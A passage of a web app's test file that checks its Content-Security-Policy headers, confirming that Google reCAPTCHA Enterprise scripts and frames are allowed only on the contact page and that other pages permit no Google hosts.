      const contact = await templateVisitor().fetch('/contact');
      expect(contact.status).toBe(200);
      expect(contact.headers.get('content-security-policy')).toContain(
        ' https://www.google.com/recaptcha/enterprise.js https://www.gstatic.com/recaptcha/releases/;',
      );
      await contact.arrayBuffer();
      const blog = await templateVisitor().fetch('/blog');
      expect(blog.headers.get('content-security-policy')).not.toContain('google');
      await blog.arrayBuffer();
    });

    it("allows only reCAPTCHA Enterprise's script paths and frames, and only on a page with a captcha form", async () => {
      const contact = await visitor().fetch('/contact');
      expect(contact.status).toBe(200);
      const csp = contact.headers.get('content-security-policy') ?? '';
      expect(csp).toMatch(
        /script-src [^;]* https:\/\/www\.google\.com\/recaptcha\/enterprise\.js https:\/\/www\.gstatic\.com\/recaptcha\/releases\/;/,
      );
      expect(csp).toMatch(
        /frame-src 'self' https:\/\/www\.google\.com\/recaptcha\/enterprise\/ https:\/\/recaptcha\.google\.com\/recaptcha\/enterprise\/;/,
      );
      expect(csp).toContain("connect-src 'self';");
      expect(csp).not.toMatch(GOOGLE);
      await contact.arrayBuffer();
    });

    it('allows no Google host or path on pages without a captcha, nor on /config', async () => {
      for (const path of ['/shop', '/shop/p/canvas-tote', '/blog', '/config', '/nope']) {
        const res = await visitor().fetch(path);
        const csp = res.headers.get('content-security-policy') ?? '';
        expect(csp, path).not.toBe('');
        expect(csp, path).not.toContain('google');
        expect(csp, path).not.toContain('gstatic');
        await res.arrayBuffer();
      }
    });
  });
});
